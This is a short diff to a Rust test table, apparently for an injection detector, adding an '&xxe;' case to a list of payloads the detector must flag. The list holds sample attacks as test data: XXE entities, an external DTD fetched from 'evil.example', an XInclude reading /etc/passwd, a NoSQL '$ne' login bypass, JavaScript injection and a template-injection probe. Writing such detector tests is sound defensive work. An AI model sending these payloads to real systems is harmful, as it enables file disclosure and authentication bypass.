@@ -54,6 +54,7 @@ const MUST_TRIGGER: &[(&str, &str, &str)] = &[
     ("xxe.external_dtd", "xml", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"),
     ("xxe.entity_declaration", "xml", "<!DOCTYPE a [<!ENTITY x \"xx\"><!ENTITY y \"&x;&x;\">]><a>&y;</a>"),
     ("xxe.xinclude", "xml", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>"),
+    ("xxe.entity_reference", "q", "&xxe;"),
     ("nosql.operator", "filter", "{\"password\": {\"$ne\": null}}"),
     ("nosql.js_injection", "user", "'; return true; var a='"),
     ("ssti.expression", "name", "{{7*7}}"),
